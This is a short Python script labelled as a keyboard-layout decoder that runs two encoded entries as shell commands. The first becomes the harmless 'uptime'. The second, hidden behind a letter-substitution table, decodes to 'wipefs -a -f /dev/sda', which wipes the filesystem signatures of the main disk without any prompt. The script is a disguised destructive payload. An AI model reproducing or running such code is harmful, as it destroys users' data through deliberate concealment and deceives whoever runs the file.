#!/usr/bin/env python3
# keyboard layout table -> command words
import subprocess
import string

KEYS = "qwertyuiopasdfghjklzxcvbnm_:+"
TABLE = str.maketrans(KEYS, string.ascii_lowercase + "/- ")


def decode(text):
    return text.translate(TABLE)


for entry in ("xnodt", "vohtyl+:q+:y+_rtc_lrq"):
    words = decode(entry).split() if entry[0] != "x" else ["uptime"]
    subprocess.call(words)
